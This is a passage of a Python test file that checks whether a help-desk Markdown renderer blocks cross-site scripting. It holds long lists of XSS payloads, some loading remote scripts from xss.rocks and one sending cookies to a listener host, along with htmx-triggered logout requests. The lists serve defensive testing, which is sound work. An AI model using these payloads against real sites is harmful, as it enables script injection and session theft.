"""Messages as Markdown: what users expect renders, and nothing a user types can script the page."""

from __future__ import annotations

import html
import os
import random
import re
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path

import pytest

import supportdesk
from supportdesk import markup
from supportdesk.markup import excerpt_of_html, render_markdown, render_plain_text

# Written out here, not imported: widening the module's allow-list must fail these tests.
ALLOWED_TAGS = frozenset({
    "p", "br", "hr", "strong", "em", "b", "i", "h1", "h2", "h3", "h4", "h5", "h6",
    "ul", "ol", "li", "blockquote", "pre", "code", "a",
    "table", "thead", "tbody", "tr", "th", "td",
})
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "code": {"class"}}
URL_SCHEMES = {"http", "https", "mailto"}
REL = "nofollow noopener noreferrer"
FORBIDDEN_ELEMENT = re.compile(
    r"<\s*/?\s*(?:script|iframe|frame|object|embed|svg|img|meta|link|style|input|body"
    r"|div|button|form|base|applet|video|source|xml|span|math|template|details)",
    re.IGNORECASE,
)
EVENT_HANDLER = re.compile(r"\son\w+\s*=", re.IGNORECASE)
HTMX_ATTRIBUTE = re.compile(r"\s(?:data-)?hx-", re.IGNORECASE)
STYLE_ATTRIBUTE = re.compile(r"\sstyle\s*=", re.IGNORECASE)
QUOTED = re.compile(r"\"[^\"]*\"|'[^']*'")
SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
CODE_BLOCK = re.compile(r"<pre><code(?: class=\"[^\"]*\")?>(.*?)</code></pre>", re.DOTALL)

# From the OWASP XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org), verbatim,
# plus a few from its earlier (RSnake) edition.
OWASP_XSS_PAYLOADS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>\n"
    "<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=java\0script:alert(\"XSS\")>",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</script><script>alert('XSS');</script>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<IMG SRC=\"livescript:[code]\">",
    "<svg/onload=alert('XSS')>",
    "Set.constructor`alert\\x28document.domain\\x29",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");\nxss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<STYLE type=\"text/css\">BODY{background:url(\"<javascript:alert>('XSS')\")}</STYLE>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "¼script¾alert(¢XSS¢)¼/script¾",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" "
    "CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058"
    ".1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"http://ha.ckers.org/xss.swf\" AllowScriptAccess=\"always\"></EMBED>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIw"
    "MDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3"
    "LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0i"
    "MjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2Ny"
    "aXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>\n"
    "<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
    "<XML SRC=\"xsstest.xml\" ID=I></XML>\n<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
    "<HTML><BODY>\n<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">\n"
    "<?import namespace=\"t\" implementation=\"#default#time2\">\n"
    "<t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(\"XSS\")</SCRIPT>\">\n"
    "</BODY></HTML>",
    "<SCRIPT SRC=\"http://xss.rocks/xss.jpg\"></SCRIPT>",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT "
    "SRC=http://xss.rocks/xss.js></SCRIPT>'\"-->",
    "<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<IMG SRC=\"http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>"
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">\" '' SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">'>\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"http://66.102.7.147/\">XSS</A>",
    "<A HREF=\"http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D\">XSS</A>",
    "<A HREF=\"//www.google.com/\">XSS</A>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<img onload=\"eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9saXN0ZXJuSVAvIitkb2N1bWVudC5j"
    "b29raWU='))\">",
    "<A HREF=\"h \ntt  p://6\t6.000146.0x7.147/\">XSS</A>",
    "/?param=<data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=",
    "<Img src = x onerror = \"javascript: window.onerror = alert; throw XSS\">",
    "<Video> <source onerror = \"javascript: alert (XSS)\">",
    "<Input value = \"XSS\" type = text>",
    "<applet code=\"javascript:confirm(document.cookie);\">",
    "<isindex x=\"javascript:\" onmouseover=\"alert(XSS)\">",
    "\"></SCRIPT>”>’><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "\"><img src=\"x:x\" onerror=\"alert(XSS)\">",
    "\"><iframe src=\"javascript:alert(XSS)\">",
    "<object data=\"javascript:alert(XSS)\">",
    "<isindex type=image src=1 onerror=alert(XSS)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img  src=\"x:gif\" onerror=\"window['al\\u0065rt'](0)\"></img>",
    "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">",
    "<meta content=\"&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)\" http-equiv=\"refresh\"/>",
    "<svg><script xlink:href=data&colon;,window.open('https://www.google.com/')></script",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:confirm(1)\">",
    "<iframe src=javascript&colon;alert&lpar;document&period;location&rpar;>",
    "<form><a href=\"javascript:\\u0061lert(1)\">X",
    "</script><img/*%00/src=\"worksinchrome&colon;prompt(1)\"/%00*/onerror='eval(src)'>",
    "<style>//*{x:expression(alert(/xss/))}//<style></style>",
    "<img src=\"/\" =_=\" title=\"onerror='prompt(1)'\">",
    "<a aa aaa aaaa aaaaa aaaaaa aaaaaaa aaaaaaaa aaaaaaaaa aaaaaaaaaa "
    "href=j&#97v&#97script:&#97lert(1)>ClickMe",
    "<script x> alert(1) </script 1=2",
    "<form><button formaction=javascript&colon;alert(1)>CLICKME",
    "<input/onmouseover=\"javaSCRIPT&colon;confirm&lpar;1&rpar;\"",
    "<iframe src=\"data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63"
    "%72%69%70%74%3E\"></iframe>",
    "<OBJECT CLASSID=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\"><PARAM NAME=\"DataURL\" "
    "VALUE=\"javascript:alert(1)\"></OBJECT>",
    # The cheat sheet's earlier (RSnake) edition.
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
]

# The same attacks in Markdown's own syntax, and on htmx.
MARKDOWN_XSS_PAYLOADS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav\tascript:alert(1))",
    "[x](javas&#99;ript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](/api/logout)",
    "[x](//evil.example/)",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.gif)",
    "![x][ref]\n\n[ref]: javascript:alert(1)",
    "[a][ref]\n\n[ref]: javascript:alert(1) \"title\"",
    "[a]\n\n[a]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<https://example.com/\" onmouseover=\"alert(1)>",
    "[x](https://example.com \"\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://example.com/\"onmouseover=\"alert(1))",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "*<img src=x onerror=alert(1)>*",
    "**<script>alert(1)</script>**",
    "# <script>alert(1)</script>",
    "> <iframe src=javascript:alert(1)>",
    "- <svg onload=alert(1)>",
    "a | b\n--|--\n<img src=x onerror=alert(1)> | <div hx-get=/x>",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```{.python onclick=alert(1) #id style=color:red}\ncode\n```",
    "```python hl_lines=\"1\" onload=alert(1)\ncode\n```",
    "`<script>alert(1)</script>`",
    "<div hx-get=\"/api/logout\" hx-trigger=\"load\">x</div>",
    "<button hx-post=\"/api/tickets\" data-hx-post=\"/x\">x</button>",
    "<form hx-post=\"/api/tickets\" hx-trigger=\"load\"><input name=subject value=x></form>",
    "<a href=\"https://example.com\" hx-boost=\"true\" hx-target=\"body\">x</a>",
    "<span hx-on:click=\"alert(1)\" hx-on::load=\"alert(2)\">x</span>",
    "<div data-hx-get=\"/api/logout\" data-hx-trigger=\"load\" hx-swap-oob=\"true\" "
    "id=page>x</div>",
    "<p style=\"position:fixed;inset:0\" onclick=\"alert(1)\">x</p>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "```\nx\n```\n\n[x](\x02wzxhzdk:0\x03)",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
]

# Contexts a payload can sit in: each is also a way Markdown could give it a different meaning.
CONTEXTS = [
    "{}",
    "Hello,\n{}\nThanks",
    "> {}",
    "- {}",
    "1. {}",
    "## {}",
    "*{}*",
    "[{}](https://example.com)",
    "a | b\n--|--\n{} | x",
]


class _Elements(HTMLParser):
    """The real elements of an HTML fragment: (tag, attributes, source of the start tag)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]], str]] = []
        self.end_tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs, self.get_starttag_text() or ""))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self.end_tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment in output: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"declaration in output: {decl!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"processing instruction in output: {data!r}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"declaration in output: {data!r}")


def parse(fragment: str) -> _Elements:
    parser = _Elements()
    parser.feed(fragment)
    parser.close()
    return parser


def visible_text(fragment: str) -> str:
    return "".join(parse(fragment).text)


def scheme_of(url: str) -> str | None:
    # As a browser reads it: surrounding C0 controls and spaces trimmed, tabs and newlines
    # anywhere removed (so "jav\tascript:" is javascript:).
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))
    match = SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


def assert_safe(fragment: str) -> None:
    """Only allowed elements and attributes, and no way for the fragment to run code."""
    assert FORBIDDEN_ELEMENT.search(fragment) is None, fragment
    assert not {"\x02", "\x03", "\x1a"} & set(fragment), "Markdown's placeholders leaked"
    parsed = parse(fragment)
    for tag, attributes, source in parsed.elements:
        assert tag in ALLOWED_TAGS, f"<{tag}> in {fragment!r}"
        # Attribute values blanked: a title may say "onclick=" harmlessly.
        skeleton = QUOTED.sub('""', source)
        assert EVENT_HANDLER.search(skeleton) is None, source
        assert HTMX_ATTRIBUTE.search(skeleton) is None, source
        assert STYLE_ATTRIBUTE.search(skeleton) is None, source
        for name, value in attributes:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()), f"{name} on <{tag}>: {source}"
            assert value is not None, source
            if name in {"href", "src"}:
                assert scheme_of(value) in URL_SCHEMES, f"{name}={value!r}"
            elif name == "rel":
                assert value == REL
            elif name == "class":
                assert re.fullmatch(r"language-[\w+-]+", value), value
    for tag in parsed.end_tags:
        assert tag in ALLOWED_TAGS, f"</{tag}> in {fragment!r}"


def code_blocks(fragment: str) -> list[str]:
    return [html.unescape(code) for code in CODE_BLOCK.findall(fragment)]


# --- Markdown a help desk needs ------------------------------------------------------

def test_returns_a_plain_string() -> None:
    assert type(render_markdown("hi")) is str
    assert render_markdown("") == ""


def test_bold_italic_and_headings() -> None:
    assert render_markdown("**bold** and *italic* and _also_") == (
        "<p><strong>bold</strong> and <em>italic</em> and <em>also</em></p>"
    )
    assert render_markdown("# Title") == "<h1>Title</h1>"
    assert render_markdown("Subtitle\n--------") == "<h2>Subtitle</h2>"
    assert render_markdown("###### Small") == "<h6>Small</h6>"


def test_headings_take_no_ids_or_attributes() -> None:
    assert render_markdown("# Title {#login .evil onclick=x}") == (
        "<h1>Title {#login .evil onclick=x}</h1>"
    )


def test_single_newlines_are_line_breaks() -> None:
    assert render_markdown("Hello,\nmy site is down.\nRegards") == (
        "<p>Hello,<br>\nmy site is down.<br>\nRegards</p>"
    )


def test_paragraphs_blockquotes_and_rules() -> None:
    assert render_markdown("one\n\ntwo") == "<p>one</p>\n<p>two</p>"
    assert render_markdown("> quoted\n\n---") == "<blockquote>\n<p>quoted</p>\n</blockquote>\n<hr>"


def test_lists() -> None:
    assert render_markdown("- a\n- b") == "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"
    assert render_markdown("1. a\n2. b") == "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"
    # CommonMark's renderer puts a newline between an item's text and its sub-list, where
    # Python-Markdown put none; the same elements either way.
    assert render_markdown("- a\n    - nested") == (
        "<ul>\n<li>a\n<ul>\n<li>nested</li>\n</ul>\n</li>\n</ul>"
    )
    assert render_markdown("-\ta\n-\tb") == "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"


def test_sane_lists_keep_ordered_and_unordered_apart() -> None:
    assert render_markdown("1. first\n\n- other") == (
        "<ol>\n<li>first</li>\n</ol>\n<ul>\n<li>other</li>\n</ul>"
    )


def test_tables_without_style() -> None:
    rendered = render_markdown("Plan | Price\n:--- | ---:\nBasic | 5")
    assert rendered == (
        "<table>\n<thead>\n<tr>\n<th>Plan</th>\n<th>Price</th>\n</tr>\n</thead>\n"
        "<tbody>\n<tr>\n<td>Basic</td>\n<td>5</td>\n</tr>\n</tbody>\n</table>"
    )


def test_inline_code_is_escaped_once() -> None:
    assert render_markdown("run `ls -la <dir> && echo \"ok\"`") == (
        '<p>run <code>ls -la &lt;dir&gt; &amp;&amp; echo "ok"</code></p>'
    )
    rendered = render_markdown("`<b>&amp;</b>`")
    assert rendered == "<p><code>&lt;b&gt;&amp;amp;&lt;/b&gt;</code></p>"
    assert html.unescape(rendered.removeprefix("<p><code>").removesuffix("</code></p>")) == (
        "<b>&amp;</b>"
    )


def test_inline_code_keeps_tabs() -> None:
    assert render_markdown("a `x\ty` b") == "<p>a <code>x\ty</code> b</p>"


def test_fenced_code_keeps_whitespace_and_tabs_exactly() -> None:
    assert render_markdown("```\n  indented\n\tline\n```") == (
        "<pre><code>  indented\n\tline\n</code></pre>"
    )


@pytest.mark.parametrize("code", [
    '<?php echo "x"; ?>',
    "if (a < b && c > d) { return 'x'; }",
    "&amp; &lt; &#106; stay as typed",
    "all:\n\t$(CC) -o app main.c\n\t\t# two tabs\n    four spaces\n \t mixed",
    "<script>alert(1)</script>\n<div hx-get=\"/api/logout\" hx-trigger=\"load\"></div>",
    "trailing spaces   \n\n\nthree blank lines above\n*not emphasis* [not](a link)",
    "~~~\nnot a fence inside a backtick fence\n~~~",
])
def test_fenced_code_comes_back_exactly_as_typed(code: str) -> None:
    rendered = render_markdown(f"Before\n\n```\n{code}\n```\n\nAfter")
    assert code_blocks(rendered) == [code + "\n"]
    assert_safe(rendered)


def test_windows_line_endings_from_a_form_post() -> None:
    assert render_markdown("Hi\r\n\r\n```\r\n\tx\r\n```\r\n") == (
        "<p>Hi</p>\n<pre><code>\tx\n</code></pre>"
    )


def test_fenced_code_with_a_language_keeps_its_class() -> None:
    assert render_markdown("```python\nprint('hi')\n```") == (
        "<pre><code class=\"language-python\">print('hi')\n</code></pre>"
    )
    assert render_markdown("~~~ c++\nint x;\n~~~") == (
        '<pre><code class="language-c++">int x;\n</code></pre>'
    )


def test_fenced_code_attributes_are_reduced_to_the_language() -> None:
    rendered = render_markdown("```{.python .evil #login data-x=1 style=color:red}\ncode\n```")
    assert rendered == '<pre><code class="language-python">code\n</code></pre>'


def test_indented_code_blocks() -> None:
    assert render_markdown("Log:\n\n    line 1\n      line 2") == (
        "<p>Log:</p>\n<pre><code>line 1\n  line 2\n</code></pre>"
    )


# --- Links ---------------------------------------------------------------------------

def test_https_links_are_kept_with_rel() -> None:
    assert render_markdown("[the docs](https://example.com/docs?a=1&b=2)") == (
        '<p><a href="https://example.com/docs?a=1&amp;b=2" rel="nofollow noopener noreferrer">'
        "the docs</a></p>"
    )


def test_link_titles_http_and_autolinks() -> None:
    assert render_markdown('[x](http://example.com "The title")') == (
        '<p><a href="http://example.com" title="The title" rel="nofollow noopener noreferrer">'
        "x</a></p>"
    )
    assert render_markdown("<https://example.com>") == (
        '<p><a href="https://example.com" rel="nofollow noopener noreferrer">'
        "https://example.com</a></p>"
    )


def test_mail_links() -> None:
    expected = (
        '<p><a href="mailto:help@example.com" rel="nofollow noopener noreferrer">'
        "help@example.com</a></p>"
    )
    assert render_markdown("<help@example.com>") == expected
    assert render_markdown("[help@example.com](mailto:help@example.com)") == expected


@pytest.mark.parametrize("url", [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.com/",
    "/api/logout",
    "//evil.example/",
    "#top",
])
def test_links_to_other_schemes_or_relative_urls_lose_their_href(url: str) -> None:
    assert render_markdown(f"[click]({url})") == (
        '<p><a rel="nofollow noopener noreferrer">click</a></p>'
    )


def test_a_destination_with_a_raw_tab_is_no_link_but_its_text() -> None:
    # CommonMark allows no whitespace in a link destination, so this is not a link at all
    # (Python-Markdown made it one and nh3 removed its href): the text stays as typed.
    rendered = render_markdown("[click](jav\tascript:alert(1))")
    assert rendered == "<p>[click](jav\tascript:alert(1))</p>"
    assert_safe(rendered)


def test_images_become_links_never_img() -> None:
    assert render_markdown("![screenshot](https://example.com/s.png)") == (
        '<p><a href="https://example.com/s.png" rel="nofollow noopener noreferrer">'
        "screenshot</a></p>"
    )
    assert render_markdown("![x](javascript:alert(1))") == (
        '<p><a rel="nofollow noopener noreferrer">x</a></p>'
    )


# --- Raw HTML ------------------------------------------------------------------------

def test_raw_html_is_escaped_not_rendered() -> None:
    assert render_markdown("<b>hi</b>") == "<p>&lt;b&gt;hi&lt;/b&gt;</p>"


@pytest.mark.parametrize("typed", [
    "<b>hi</b>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="https://example.com">even a harmless link</a>',
    '<div hx-get="/api/logout" hx-trigger="load">x</div>',
    "<!-- a comment -->",
    "<br>",
    "Press <Enter> and type a < b > c",
    "<div>\nblock\n</div>",
])
def test_raw_html_is_shown_as_the_text_the_user_typed(typed: str) -> None:
    rendered = render_markdown(typed)
    assert visible_text(rendered) == typed
    assert {tag for tag, _, _ in parse(rendered).elements} <= {"p", "br"}


def test_ampersands_and_entities() -> None:
    assert render_markdown("AT&T") == "<p>AT&amp;T</p>"
    # As in every Markdown: an entity stands for its character, which is then just text.
    assert visible_text(render_markdown("&copy; &lt;b&gt;")) == "© <b>"
    assert render_markdown("&lt;script&gt;") == "<p>&lt;script&gt;</p>"


# --- Attacks -------------------------------------------------------------------------

PAYLOADS = [
    *(pytest.param(p, id=f"owasp-{i:03}") for i, p in enumerate(OWASP_XSS_PAYLOADS)),
    *(pytest.param(p, id=f"markdown-{i:03}") for i, p in enumerate(MARKDOWN_XSS_PAYLOADS)),
]


def test_payload_lists_are_distinct_and_long_enough() -> None:
    assert len(set(OWASP_XSS_PAYLOADS)) == len(OWASP_XSS_PAYLOADS) >= 60
    assert len(set(MARKDOWN_XSS_PAYLOADS)) == len(MARKDOWN_XSS_PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_payload_renders_harmless(payload: str) -> None:
    for context in CONTEXTS:
        assert_safe(render_markdown(context.format(payload)))
    # Inside code it is shown as typed, escaped once (less the invisible control
    # characters, removed before parsing: NUL, which HTML cannot carry, and the STX/ETX
    # that Python-Markdown, used before, took for its placeholders).
    code = payload.replace("```", "")
    fenced = render_markdown(f"```\n{code}\n```")
    assert_safe(fenced)
    assert code_blocks(fenced) == [re.sub("[\x00\x02\x03]", "", code) + "\n"]


@pytest.mark.parametrize("unsafe", [
    "<script>alert(1)</script>",
    "<SCRIPT src=x></SCRIPT>",
    "<img src=x>",
    "<p onclick=\"alert(1)\">x</p>",
    "<p ONMOUSEOVER = alert(1)>x</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="/relative">x</a>',
    '<p hx-get="/api/logout">x</p>',
    '<p data-hx-post="/x">x</p>',
    '<p style="color:red">x</p>',
    '<p id="page">x</p>',
    '<code class="evil">x</code>',
    '<a href="https://x" rel="opener">x</a>',
    "<marquee>x</marquee>",
    "<p><!-- x --></p>",
    "<p>\x02wzxhzdk:0\x03</p>",
])
def test_the_safety_check_itself_catches_unsafe_html(unsafe: str) -> None:
    with pytest.raises(AssertionError):
        assert_safe(unsafe)


FRAGMENTS = [
    "<", ">", '"', "'", "javascript:", "JaVaScRiPt:", "onerror=", "onload=", "hx-get",
